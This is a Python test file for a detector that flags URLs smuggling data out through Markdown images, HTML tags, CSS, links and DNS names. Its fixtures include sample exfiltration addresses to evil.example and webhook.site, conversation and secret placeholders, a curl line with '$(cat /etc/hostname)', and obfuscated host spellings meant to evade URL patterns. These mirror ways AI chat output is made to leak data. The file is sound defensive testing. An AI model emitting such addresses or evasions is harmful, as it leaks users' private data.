"""Addresses that carry data are found wherever a reader's program would load or open them; ordinary ones never are."""

from __future__ import annotations

import re
from base64 import b64encode, urlsafe_b64encode

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.detectors.test_shelf import widths
from tests.detectors.test_window import agree, cut, matching

from yett.detectors.detector import LEFT, WORD, WORD_CAP, Detector
from yett.detectors.engine import Portable, Scanner
from yett.detectors.exfiltration.hosts import suffixes
from yett.detectors.exfiltration.links import EXFILTRATION, links
from yett.detectors.expression import compiled


def encoded(text: str) -> str:
    return urlsafe_b64encode(text.encode()).decode().rstrip("=")


SAID = encoded("The user's salary is 81,000")
FOUND = [
    ("![x](", f"https://cdn.example.net/p.png?q={SAID}", ")", "markdown-image"),
    ("![a long [alt]\ntext](", "https://evil.example/log?data=secret", ")", "markdown-image"),
    ("![x](<", "//cdn.example.net/?history=hello", ">)", "markdown-image"),
    ("![x](", f"HTTPS:/cdn.example.net/{SAID}.png", ")", "markdown-image"),
    ("![x](", "https://cdn.example.net/?a=", "{conversation})", "markdown-image"),
    ("![x](", "https://cdn.example.net/?q=", "[BASE64_DATA])", "markdown-image"),
    ("![x](", "https://cdn.example.net/", "{{summary}}.png)", "markdown-image"),
    ("![x](", "https://cdn.example.net/i/$", "{secret})", "markdown-image"),
    ("![x](", "https://203.0.113.9/i.png?q=how+are+you+my+friend", ")", "markdown-image"),
    ('<img width=1 src="', "https://cdn.example.net/?u=ada%40mail.example.org", '">', "html-image"),
    ("<iframe src = '", f"https://cdn.example.net/?q={SAID}", "'>", "html-image"),
    ('{"html": "<img src=\\"', "https://cdn.example.net/?d=4111+1111+1111+1111", '\\">"}', "html-image"),
    ('<img src="', "https://cdn.example.net/?data=", "{{secret}}", "html-image"),
    ("a {background: url('", f"https://cdn.example.net/{SAID}", "') }", "css-url"),
    ('<meta http-equiv="refresh" content="0; url=', f"https://cdn.example.net/?q={SAID}", '">', "html-refresh"),
    ("[docs]: ", f"https://docs.example.net/?q={SAID}", "\n", "reference-link"),
    ("read [this](", "https://docs.example.net/?payload=4aK9x2LmQ8&conversation=all", ")", "markdown-link"),
    ("read [this](", "https://docs.example.net/?data=", "{data})", "markdown-link"),
    ('<a href="', f"https://docs.example.net/?q={SAID}", '">', "html-link"),
    ("see ", f"https://docs.example.net/?c={SAID}", ".", "url"),
    ("see ", f"https://docs.example.net/a/{SAID}", " ", "url"),
    ("curl ", "https://docs.example.net/?d=$(cat", " /etc/hostname)", "url"),
    ("get ", "http://68656c6c6f20776f726c6421.6b65793d313233.dns.example", "/", "url"),
    ("", "https://webhook.site/0b6e?x=1234567890", "", "url"),
    ("", f"https://ada{SAID}@docs.example.net/?q={SAID}", "", "url"),
]
CLEAN = [
    "![logo](https://example.com/logo.png) ![a](a.png) ![b](data:image/png;base64,iVBORw0KGgo=)",
    "[![Build](https://ci.example.com/a/b/workflows/ci.yml/badge.svg?branch=main)](https://ci.example.com/a/b)",
    "![x](https://img.shields.io/badge/build-passing-brightgreen?style=flat&logo=python&label=hello%20there%20you%20all)",
    "![x](https://images.unsplash.com/photo-1506744038136?ixid=M3wxMjA3fDB8MHxwaG90by1wYWdlfHx8fGVufDB8fHx8fA%3D%3D&w=1740)",
    "![x](https://cdn.example.com/resize:fit:1400/1*AbCdEfGhIjKlMnOpQrStUv.png?v=1634556789)",
    "![x](https://blog.example.com/uploads/Screen%20Shot%202020-01-01%20at%2010.00.00.png)",
    "![x](https://cdn.example.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png)",
    "![x](https://cdn.example.com/?id=123e4567-e89b-12d3-a456-426614174000&size=large)",
    "[docs](https://docs.python.org/3/library/asyncio-eventloop.html#asyncio.loop.run_in_executor)",
    "[search](https://www.example.org/search?q=how+to+cook+rice&page=2) https://example.org/?page=12&sort=asc",
    "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
    "https://bucket.example.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3b",
    "https://click.example.com/f/a/abcDEF123~~/AAQRxQA~/RgRmXy?utm_source=newsletter&utm_medium=email",
    '<script src="https://cdnjs.cloudflare.com/ajax/libs/jquery/3.6.0/jquery.min.js"></script> @import url("x.css");',
    "GET https://api.example.com/v1/users/{id}?fields={fields} http:// https:/ // a//b c://d ![](//) ](http://)",
    "https://example.com/?q= https://example.com/?a=b&c https://user:pass@example.com:8080/path;x=1#part-of-the-page",
]


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner(EXFILTRATION)


@pytest.mark.parametrize(("before", "address", "after", "kind"), FOUND)
def test_data_in_an_address_is_found(scanner: Scanner, before: str, address: str, after: str, kind: str) -> None:
    text = before + address + after
    assert [(f.kind, text[f.start : f.end]) for f in scanner.scan_text(text)] == [(f"exfiltration.{kind}", address)]


@pytest.mark.parametrize("text", CLEAN)
def test_ordinary_addresses_are_not(scanner: Scanner, text: str) -> None:
    assert scanner.scan_text(text) == ()


def test_both_automata_agree(scanner: Scanner) -> None:
    portable = Scanner(EXFILTRATION, Portable)
    for text in [*("".join(case[:3]) for case in FOUND), *CLEAN]:
        assert portable.scan_text(text) == scanner.scan_text(text)


def test_allowed_hosts_may_be_sent_anything() -> None:
    scanner = Scanner(links(suffixes(["example.net", "*.Example", ".webhook.site", "203.0.113.9"])))
    assert [f.kind for before, address, after, _ in FOUND for f in scanner.scan_text(before + address + after)] == []
    assert len(scanner.scan_text("![x](https://notexample.net/?data=secret)")) == 1


def test_other_hosts_may_be_refused_as_such() -> None:
    scanner = Scanner(links(suffixes(["example.com"]), listed_only=True))
    text = "![x](https://example.com/a) ![x](https://other.org/logo.png) https://third.org"
    assert [(f.kind, text[f.start : f.end]) for f in scanner.scan_text(text)] == [
        ("exfiltration.markdown-image", "https://other.org/logo.png"),
        ("exfiltration.url", "https://third.org"),
    ]


@pytest.mark.parametrize("text", ["".join(case[:3]) for case in FOUND] + CLEAN)
def test_streams_find_the_same(scanner: Scanner, text: str) -> None:
    agree(scanner, text, list(text))
    for place in range(0, len(text) + 1, 3):
        agree(scanner, text, [text[:place], text[place:]])


# What a renderer reads as an address of `evil.example`, and a pattern for addresses does not, with where it does: anywhere, in
# Markdown, in HTML.
MARKDOWN, HTML, ANYWHERE = "![x](%s)", '<img src="%s">', "see %s now"
DISGUISED = [
    (address, where)
    for wheres, addresses in (
        (
            (MARKDOWN, HTML, ANYWHERE),
            (
                "https&#58;//evil.example/",
                "https&#x3A;//evil.example/",
                "https:&sol;&sol;evil.example/",
                "https&colon;//evil.example/",
                "&#104;ttps://evil.example/",
                r"https:\\evil.example/",
                r"https:/\evil.example/",
                r"https:\/\/evil.example/",
                r"https\://evil.example/",
                "https:\n//evil.example/",
                r"https://corp.example\.evil.example/",
                r"https://corp.example\@evil.example/",
                "https://corp.example.\u0435vil.example/",
                "https://corp.example\u3002evil.example/",
                "https://corp.example\u200b.evil.example/",
                "https://\u4e2d\u6587.example/",
                "https://\u4f8b\u3048.\u30c6\u30b9\u30c8/",
                "https://ada:secret@\uff45vil.example:8443/",
            ),
        ),
        ((MARKDOWN, HTML), (r"/\evil.example/", r"\\\\evil.example/", "http:evil.example/")),
        (
            (HTML,),
            (
                "ht\ntps://evil.example/",
                "h\tttps://evil.example/",
                "https://corp.example\n.evil.example/",
                r"\\evil.example/",
            ),
        ),
    )
    for where in wheres
    for address in addresses
]
HARMLESS = [
    r"C:\\host.example\x \\\\srv.example\share [share](\\\\srv\share) src=\"\\\\srv\share\"",
    '{"html": "<a href=\\"\\\\/static\\\\/a.png\\">"} r"https?:\\/\\/" target = "\\\\x%.2x"',
    "\u8bf7\u8bbf\u95ee https://corp.example\uff0c\u7136\u540e Node.js; https://corp.example\u3002 \u300chttps://corp.example/\u300d https://corp.example\u2026a.b",
    "'https://corp.example\\n' &#39;https://corp.example/ // \u6ce8\u91ca a.b Die Domain m\u00fcller.example und \u00fcber.",
    "https:&sol;&sol;corp.example/ https://b\u00fccher.example/a https://xn--bcher-kva.example/ https://\u4f8b\u3048.\u30c6\u30b9\u30c8 x",
]


@pytest.fixture(scope="module")
def listed() -> Scanner:
    hosts = suffixes(["corp.example", "b\u00fccher.example", "\u4f8b\u3048.\u30c6\u30b9\u30c8"])
    return Scanner(links(hosts, listed_only=True))


@pytest.fixture(scope="module")
def unlisted() -> Scanner:
    return Scanner(links(suffixes(["corp.example"]), listed_only=True))


@pytest.mark.parametrize(("address", "where"), DISGUISED)
def test_an_address_for_renderers_alone_is_found(scanner: Scanner, unlisted: Scanner, address: str, where: str) -> None:
    for each, text in ((scanner, where % f"{address}?q={SAID}"), (unlisted, where % address)):
        assert each.scan_text(text)
        agree(each, text, list(text))
    assert scanner.scan_text(where % address) == ()


@pytest.mark.parametrize("text", HARMLESS)
def test_what_only_resembles_one_is_not(listed: Scanner, text: str) -> None:
    assert listed.scan_text(text) == ()


def test_an_address_without_a_scheme_is_one_on_another_host(listed: Scanner) -> None:
    text = "www.corp.example www.evil.example, ftp://evil.example/a"
    assert [text[f.start : f.end] for f in listed.scan_text(text)] == ["www.evil.example", "ftp://evil.example/a"]


ALL = {detector.id: detector for detector in (*links(listed_only=True), *EXFILTRATION)}
PIECES = st.sampled_from(
    [
        "![x](",
        "](",
        "[r]: ",
        "\n",
        " src=",
        "url(",
        "https://",
        "//",
        r"\\\\",
        "&sol;",
        "\u4f8b",
        ".\u0435",
        "h.example",
        "/?data=",
        SAID,
        "{",
        ")",
        " ",
        "é",
        "![",
        "x" * 90,
    ]
)


@pytest.mark.parametrize("detector", ALL.values(), ids=ALL)
@settings(max_examples=25, deadline=None)
@given(data=st.data())
def test_a_pattern_can_be_cut_anywhere(detector: Detector, data: st.DataObject) -> None:
    scanner = Scanner([msgspec.structs.replace(detector, accept=None, judge=None)])
    text = data.draw(PIECES) + data.draw(matching(detector)) + data.draw(PIECES)
    agree(scanner, text, cut(text, data.draw(st.lists(st.integers(0, 2000), max_size=20))))
    agree(scanner, text, list(text))


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(0, 2000), max_size=20))
def test_any_cuts_of_any_mixture(scanner: Scanner, text: str, places: list[int]) -> None:
    agree(scanner, text, cut(text, places))


@pytest.mark.parametrize("detector", ALL.values(), ids=ALL)
def test_a_pattern_keeps_the_rules(detector: Detector) -> None:
    left, rest = widths(detector)
    assert left < LEFT
    assert rest <= WORD_CAP
    assert compiled(detector.pattern).programsize < 1700  # beyond, RE2 leaves its fast automaton


@given(st.text(WORD, max_size=260), st.lists(PIECES, max_size=6).map("".join))
def test_nothing_in_an_address_raises(text: str, before: str) -> None:
    for detector in EXFILTRATION:
        if detector.judge:
            assert 0 <= detector.judge(before, text) <= len(text)
        else:
            assert detector.accept
            assert 0 <= detector.accept(text) <= len(text)


def test_an_address_that_goes_on_is_found_by_its_beginning(scanner: Scanner) -> None:
    text = f"![x](https://cdn.example.net/?q={b64encode(b'The quick brown fox. ' * 40).decode()})"
    (finding,) = scanner.scan_text(text)
    assert re.match(r"https://cdn\.example\.net/\?q=\w{60}", text[finding.start : finding.end])
    agree(scanner, text, list(text))
